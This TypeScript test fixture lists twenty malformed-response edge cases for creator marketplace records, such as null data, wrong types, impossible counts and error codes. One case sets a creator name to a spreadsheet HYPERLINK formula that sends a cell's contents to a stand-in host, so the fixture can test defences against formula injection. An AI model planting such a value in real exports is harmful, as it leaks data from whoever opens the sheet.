type Json = Record<string, unknown>

/** One unusual answer: changed data, or a code in place of them. */
interface EdgeCase {
  readonly name: string
  readonly code?: number
  readonly change: (creator: Json, night: number) => unknown
}

const merge =
  (more: Json) =>
  (creator: Json): Json => ({ ...creator, ...more })

const same = (creator: Json): Json => creator

/** By the two digits after the marker in an id. */
export const edgeCases: Readonly<Record<string, EdgeCase>> = {
  '01': { name: 'data is null', change: () => null },
  '02': { name: 'data is {}', change: () => ({}) },
  '03': {
    name: 'no userId',
    change: (creator) => Object.fromEntries(Object.entries(creator).filter(([key]) => key !== 'userId')),
  },
  '04': { name: 'misdelivered', change: merge({ userId: '5f0000000000000001ffffff' }) },
  '05': {
    name: 'numbers as text',
    change: merge({ fansCount: '2.1万', likeCollectCountInfo: '65,447', picturePrice: '1500', clickMidNum: '1.2k' }),
  },
  '06': {
    name: 'unknown keys, one of them a known key in other letters',
    change: merge({ brandNewKey: 'surprise', FANSCOUNT: 1, Name: '另一个名字' }),
  },
  '07': {
    name: 'wrong types',
    change: merge({
      name: ['示例'],
      contentTags: '美食',
      noteSign: 'MCN',
      fansCount: { count: 5 },
      lowActive: 'maybe',
    }),
  },
  '08': {
    name: 'null in every field but userId',
    change: (creator) =>
      Object.fromEntries(Object.keys(creator).map((key) => [key, key === 'userId' ? creator[key] : null])),
  },
  '09': {
    name: 'nothing offered',
    change: merge({
      ...{ picturePrice: 0, videoPrice: null, lowerPrice: 0, pictureState: 0, videoState: 0 },
      ...{ picturePriceGtZero: false, videoPriceGtZero: false },
    }),
  },
  '10': {
    name: 'quotes raised on night 1',
    change: (creator, night) => ({ ...creator, picturePrice: night < 1 ? 1500 : 1800.5, picturePriceGtZero: true }),
  },
  '11': { name: 'quote without its flag', change: merge({ picturePrice: 900, picturePriceGtZero: false }) },
  '12': { name: 'followers lost', change: merge({ fans30GrowthNum: -1234, fans30GrowthRate: -0.03 }) },
  '13': { name: 'counts that nobody can have', change: merge({ fansCount: -5, likeCollectCountInfo: 12_000_000_000 }) },
  '14': { name: 'two keys that differ only in case', change: merge({ mEngagementNum: 11, mengagementNum: 22 }) },
  '15': {
    name: 'name that is a formula',
    change: merge({ name: '=HYPERLINK("https://example.com/?leak="&A1,"点我")' }),
  },
  '16': { name: 'not in the marketplace: 301', code: 301, change: same },
  '17': { name: 'not in the marketplace: 400', code: 400, change: same },
  '18': { name: 'not in the marketplace: 500', code: 500, change: same },
  '19': { name: 'only userId', change: ({ userId }) => ({ userId }) },
  '20': {
    name: 'userId in upper case',
    change: (creator) => ({ ...creator, userId: String(creator['userId']).toUpperCase() }),
  },
}
